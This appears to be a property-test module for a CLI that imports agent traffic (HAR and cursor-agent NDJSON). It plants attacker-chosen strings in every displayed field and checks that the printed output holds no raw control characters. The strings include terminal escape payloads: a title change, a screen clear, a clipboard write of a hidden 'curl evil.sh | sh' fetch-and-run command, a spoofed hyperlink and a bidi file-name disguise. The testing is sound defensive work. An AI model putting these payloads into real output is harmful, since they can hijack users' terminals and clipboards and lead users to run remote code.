"""Traffic whose every text field a person reads is attacker-chosen, and the check that what the
commands print holds no raw control character (issue 35, "terminal-safe output").

One hostile string ``h`` is planted in every field the views show: the agent side (run_request
model and prompt, so the session label; text and thinking deltas; a partial tool call's call id and
arguments; an MCP tool call's name, tool name and call id; an exec's MCP args; a KV blob; a
trailer's grpc-message) and the OpenAI side of a bridge (request model, prompt and tool name;
streamed content, tool-call id, name and arguments), as a HAR; and a cursor-agent stream-json
file (session model, text, tool call). Everything goes in through ``workbench import``, the way a
user's files do.
"""

from __future__ import annotations

import base64
import json
import unicodedata
from typing import Any

from formats import _har_headers, _iso, har_document
from hypothesis import strategies as st
from strategies import RUN_PATH

from workbench.wire.envelope import FLAG_END_STREAM, encode

# What issue 35 names: retitle the terminal, clear it, write the clipboard, a hyperlink, overwrite
# the line, reverse the text, and CSI as the one-byte C1 control.
ATTACKS = (
    "\x1b]0;pwned\x07",
    "\x1b[2J",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "ok\rEVIL",
    "read_file\u202eexe.txt",
    "\x9b2J",
)
ALL_ATTACKS = "".join(ATTACKS)
# Hostile text: the attacks, joined with any other text (no lone surrogates: protobuf strings are
# UTF-8, and a HAR or NDJSON line that is not UTF-8 is another property's subject).
hostile_text = st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(st.characters(exclude_categories=("Cs",)),
                                                                     max_size=6)),
                        min_size=1, max_size=4).map("".join).filter(lambda s: any(a in s for a in ATTACKS))

UNSAFE_CATEGORIES = ("Cc", "Cf", "Cs", "Zl", "Zp")


def raw_controls(text: str) -> list[str]:
    """The characters of ``text`` a terminal would act on or that make one name look like another
    (any of categories Cc, Cf, Cs, Zl, Zp), but the newline and tab a command writes as layout."""
    return sorted({repr(c) for c in text if c not in "\n\t" and unicodedata.category(c) in UNSAFE_CATEGORIES})


def assert_terminal_safe(label: str, result: dict[str, Any]) -> None:
    for stream in ("out", "err"):
        bad = raw_controls(result[stream])
        assert not bad, (f"`workbench {label}` wrote raw control characters {bad} to std{stream}:\n"
                         f"{result[stream][-1500:]!r}")


def agent_messages(h: str) -> tuple[list[bytes], list[bytes]]:
    from workbench.schema import pb

    def server(**kw: Any) -> bytes:
        return encode(pb.AgentServerMessage(**kw).SerializeToString())

    def update(**kw: Any) -> bytes:
        return server(interaction_update=pb.InteractionUpdate(**kw))

    mcp = pb.McpArgs(name=h, tool_name=h, tool_call_id=h, args={h: json.dumps(h).encode()})
    client = [encode(pb.AgentClientMessage(run_request=pb.AgentRunRequest(
        conversation_state=pb.ConversationStateStructure(),
        action=pb.ConversationAction(user_message_action=pb.UserMessageAction(
            user_message=pb.UserMessage(text=h, message_id=h))),
        model_details=pb.ModelDetails(model_id=h), conversation_id=h)).SerializeToString())]
    blob = json.dumps({"role": "user", "content": h}).encode()
    srv = [
        update(thinking_delta=pb.ThinkingDelta(text=h)),
        update(text_delta=pb.TextDelta(text=h)),
        update(partial_tool_call=pb.PartialToolCall(call_id=h, args_text_delta=json.dumps({"q": h}))),
        update(tool_call_started=pb.ToolCallStarted(call_id=h, tool_call=pb.ToolCall(
            mcp_tool_call=pb.McpToolCall(args=mcp)))),
        server(exec_server_message=pb.ExecServerMessage(id=1, exec_id=h, mcp_args=mcp)),
        server(kv_server_message=pb.KvServerMessage(id=2, set_blob_args=pb.SetBlobArgs(
            blob_id=b"\x01" * 32, blob_data=blob))),
        server(kv_server_message=pb.KvServerMessage(id=3, set_blob_args=pb.SetBlobArgs(
            blob_id=b"\x02" * 32, blob_data=h.encode()))),  # a text blob: its preview is the text
        update(tool_call_completed=pb.ToolCallCompleted(call_id=h, tool_call=pb.ToolCall(
            mcp_tool_call=pb.McpToolCall(args=mcp)))),
        update(summary=pb.Summary(summary=h)),
        encode(json.dumps({"error": {"code": "internal", "message": h}}).encode(), FLAG_END_STREAM),
    ]
    return client, srv


def _entry(url: str, req_type: str, req: bytes, resp_type: str, resp: bytes, h: str, t: float) -> dict[str, Any]:
    hv = h.encode("utf-8")
    return {
        "startedDateTime": _iso(t), "time": 300,
        "request": {"method": "POST", "url": url, "httpVersion": "HTTP/2.0",
                    "headers": _har_headers([(b"content-type", req_type.encode()), (b"x-hostile", hv)]),
                    "cookies": [], "queryString": [], "headersSize": -1, "bodySize": len(req),
                    "postData": {"mimeType": req_type, "text": base64.b64encode(req).decode(), "encoding": "base64"}},
        "response": {"status": 200, "statusText": "", "httpVersion": "HTTP/2.0",
                     "headers": _har_headers([(b"content-type", resp_type.encode()), (b"grpc-message", hv)]),
                     "cookies": [], "content": {"size": len(resp), "mimeType": resp_type,
                                                "text": base64.b64encode(resp).decode(), "encoding": "base64"},
                     "redirectURL": "", "headersSize": -1, "bodySize": len(resp), "_trailers": []},
        "cache": {}, "timings": {"send": 1, "wait": 100, "receive": 199},
    }


def hostile_har(h: str) -> bytes:
    """A HAR of one agent run and one OpenAI chat completion, ``h`` in every field shown."""
    client, server = agent_messages(h)
    request = json.dumps({"model": h, "stream": True, "messages": [{"role": "user", "content": h}],
                          "tools": [{"type": "function", "function": {"name": h, "parameters": {}}}]}).encode()
    events = [{"choices": [{"delta": {"role": "assistant"}}]},
              {"choices": [{"delta": {"content": h}}]},
              {"choices": [{"delta": {"tool_calls": [{"index": 0, "id": h, "type": "function",
                                                      "function": {"name": h, "arguments": json.dumps({"q": h})}}]}}]},
              {"choices": [{"delta": {}, "finish_reason": h}]}]
    sse = b"".join(b"data: " + json.dumps(e).encode() + b"\n\n" for e in events) + b"data: [DONE]\n\n"
    return har_document([
        _entry("https://api2.cursor.sh" + RUN_PATH, "application/connect+proto", b"".join(client),
               "application/connect+proto", b"".join(server), h, 1.7e9),
        _entry("http://127.0.0.1:8000/v1/chat/completions", "application/json", request, "text/event-stream", sse,
               h, 1.7e9 + 1),
    ])


def hostile_ndjson(h: str, session_id: str) -> bytes:
    """cursor-agent stream-json whose model, text and tool call are ``h``."""
    lines = [{"type": "system", "subtype": "init", "session_id": session_id, "model": h, "cwd": h},
             {"type": "user", "session_id": session_id, "message": {"role": "user", "content": [{"type": "text", "text": h}]}},
             {"type": "assistant", "session_id": session_id,
              "message": {"role": "assistant", "content": [{"type": "text", "text": h}]}},
             {"type": "tool_call", "subtype": "started", "session_id": session_id, "call_id": h,
              "tool_call": {"mcpToolCall": {"args": {"name": h, "toolName": h, "args": {h: h}}}}},
             {"type": "tool_call", "subtype": "completed", "session_id": session_id, "call_id": h,
              "tool_call": {"mcpToolCall": {"args": {"name": h, "toolName": h, "args": {h: h}},
                                            "result": {"success": {"content": [{"text": {"text": h}}]}}}}},
             {"type": "result", "subtype": "success", "session_id": session_id, "result": h, "is_error": False}]
    return b"".join(json.dumps(line).encode() + b"\n" for line in lines)
